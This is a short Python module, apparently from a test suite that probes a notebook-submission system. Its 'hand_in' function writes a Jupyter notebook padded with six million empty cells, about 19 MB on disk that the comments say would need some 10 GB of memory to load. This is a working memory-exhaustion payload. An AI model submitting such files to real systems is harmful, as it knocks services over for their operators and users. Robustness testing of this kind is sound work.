# 19 MB of empty cells: each takes 3 bytes here and twenty times as many in memory.
import json

from attacks import NOTEBOOK

STOCK = "would take some 10 GB of memory"


def hand_in(notebook, folder):
    text = json.dumps(notebook)
    (folder / NOTEBOOK).write_text(text.replace('"cells": [', '"cells": [' + "{}," * 6_000_000))
